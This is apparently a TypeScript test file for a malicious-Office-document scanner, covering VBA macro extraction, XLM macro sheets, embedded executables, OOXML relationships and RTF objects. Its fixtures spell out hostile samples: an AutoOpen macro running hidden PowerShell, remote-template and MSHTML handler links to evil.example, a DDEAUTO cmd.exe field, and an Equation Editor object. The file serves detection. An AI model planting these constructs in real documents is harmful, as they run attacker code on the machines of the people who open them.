/** Tests for MS-OVBA decompression, VBA/XLM macro judgement, OLE embedded objects, OOXML relationships and RTF objects. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { CairnError } from '../../kernel/errors.ts';
import { staticAnalysis } from './inspect.ts';
import { analyzeRtf, analyzeVbaSources, parseOle10Native } from './office.ts';
import { openCfb } from './ole.ts';
import { decompressOvba, extractVba } from './ovba.ts';
import { buildZip } from './testkit.ts';

const DIR = new URL('../../../../shared/data/files/', import.meta.url).pathname;
const skip = !existsSync(`${DIR}test.xls`) && 'shared corpus not present';

test('MS-OVBA decompression matches the specification examples (3.2.1, 3.2.2)', () => {
  const none = Buffer.from('0119b000616263646566676800696a6b6c6d6e6f7000717273747576 2e'.replace(/ /g, ''), 'hex');
  assert.equal(decompressOvba(none).toString('latin1'), 'abcdefghijklmnopqrstuv.');
  const normal = Buffer.from('012fb0002361616162636465826600706167686' + '96a01380861 6b6c00306d6e6f70067102700410727374757610777879 7a003c'.replace(/ /g, ''), 'hex');
  assert.equal(decompressOvba(normal).toString('latin1'), '#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa');
});

test('MS-OVBA decompression rejects a copy token that points before its chunk and honours the cap', () => {
  assert.throws(() => decompressOvba(Buffer.from([0x01, 0x02, 0xb0, 0x01, 0x00, 0x00])), (e: unknown) => e instanceof CairnError);
  assert.throws(() => decompressOvba(Buffer.from([0x02, 0x00])), (e: unknown) => e instanceof CairnError);
  // One literal, then a copy token (offset 1, length 4098): 7 bytes expand past 4 KiB; the cap stops it.
  const out = decompressOvba(Buffer.from([0x01, 0xff, 0xbf, 0xfe, 0x61, 0xff, 0x0f]), 3000);
  assert.equal(out.length, 3000);
  assert.ok(out.every((b) => b === 0x61));
});

test('extracts VBA module source from the corpus workbook', { skip }, () => {
  const projects = extractVba(openCfb(readFileSync(`${DIR}test.xls`)), { remaining: 64 << 20 });
  assert.equal(projects.length, 1);
  const names = projects[0]!.modules.map((m) => m.name).sort();
  assert.deepEqual(names, ['Module1', 'Sheet1', 'ThisWorkbook']);
  assert.match(projects[0]!.modules.find((m) => m.name === 'Module1')!.source, /Sub PingExample\(\)/);
});

test('flags the hidden Excel 4 macro sheet with Auto_Open in the corpus workbook', { skip }, async () => {
  const r = await staticAnalysis(readFileSync(`${DIR}test.xls`));
  const xlm = r.reasons.find((x) => x.code === 'OFFICE_XLM_MACROS');
  assert.ok(xlm && xlm.score >= 7, JSON.stringify(r.reasons));
  assert.ok(r.reasons.some((x) => x.code === 'OFFICE_MACROS'));
});

test('judges VBA sources: auto-exec plus shell is a block, a plain macro is a hint', () => {
  const bad = analyzeVbaSources([{ name: 'M', source: 'Sub AutoOpen()\n  CreateObject("WScript.Shell").Run "powershell -w hidden"\nEnd Sub\n' }]);
  assert.ok(bad.some((r) => r.code === 'OFFICE_AUTOEXEC_EXECUTION' && r.score >= 7));
  const plain = analyzeVbaSources([{ name: 'M', source: 'Sub Total()\n  Range("A1").Value = 1\nEnd Sub\n' }]);
  assert.deepEqual(plain.map((r) => r.code), ['OFFICE_MACROS']);
  const commented = analyzeVbaSources([{ name: 'M', source: "Sub Document_Open()\n' Shell \"calc\"\nEnd Sub\n" }]);
  assert.ok(!commented.some((r) => r.code === 'OFFICE_AUTOEXEC_EXECUTION'), 'comments do not run');
});

test('finds the executable packaged inside test_pe_object.doc (OLE10Native)', { skip }, async () => {
  const cfb = openCfb(readFileSync(`${DIR}test_pe_object.doc`));
  const native = cfb.find(/Ole10Native$/)[0];
  assert.ok(native);
  const e = parseOle10Native(cfb.read(native));
  assert.ok(e && e.bytes.readUInt16LE(0) === 0x5a4d, 'payload starts with MZ');
  const r = await staticAnalysis(readFileSync(`${DIR}test_pe_object.doc`));
  assert.ok(r.reasons.some((x) => x.code === 'DOCUMENT_EMBEDDED_EXECUTABLE' && x.path?.endsWith('.exe')), JSON.stringify(r.reasons));
});

test('reports encrypted OOXML as not inspectable', { skip }, async () => {
  const r = await staticAnalysis(readFileSync(`${DIR}test_password.docx`));
  assert.ok(r.reasons.some((x) => x.code === 'OFFICE_ENCRYPTED' && x.incomplete));
});

test('catches remote templates, MSHTML handlers and DDE in OOXML', async () => {
  const docx = (rels: string, body = '<w:document/>'): Buffer => buildZip([
    { name: '[Content_Types].xml', data: Buffer.from('<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>') },
    { name: 'word/document.xml', data: Buffer.from(body) },
    { name: 'word/_rels/settings.xml.rels', data: Buffer.from(`<Relationships>${rels}</Relationships>`) },
  ]);
  const tpl = await staticAnalysis(docx('<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'));
  assert.ok(tpl.reasons.some((r) => r.code === 'OFFICE_REMOTE_TEMPLATE'));
  const handler = await staticAnalysis(docx('<Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html" TargetMode="External"/>'));
  assert.ok(handler.reasons.some((r) => r.code === 'OFFICE_EXTERNAL_HANDLER' && r.score >= 7));
  const dde = await staticAnalysis(docx('', '<w:document><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:document>'));
  assert.ok(dde.reasons.some((r) => r.code === 'OFFICE_DDE'));
});

test('flags RTF objects that update on open and Equation Editor payloads', () => {
  const rtf = Buffer.from('{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata 0105000002000000}}}');
  const c = analyzeRtf(rtf).map((r) => r.code);
  assert.deepEqual(c.sort(), ['RTF_EQUATION_EDITOR', 'RTF_OBJECT', 'RTF_OBJUPDATE']);
});

test('a truncated or corrupted compound file yields reasons, not crashes', { skip }, async () => {
  const bytes = readFileSync(`${DIR}test.doc`);
  for (const len of [512, 1024, 4096, 20_000, bytes.length - 1]) {
    const r = await staticAnalysis(bytes.subarray(0, len));
    for (const x of r.reasons) assert.equal(typeof x.code, 'string');
  }
  const bad = Buffer.from(bytes);
  bad.writeUInt32LE(0xfffffff0, 44); // absurd FAT sector count
  const r = await staticAnalysis(bad);
  assert.ok(r.reasons.some((x) => x.code === 'UNPARSABLE' && x.incomplete), JSON.stringify(r.reasons));
});
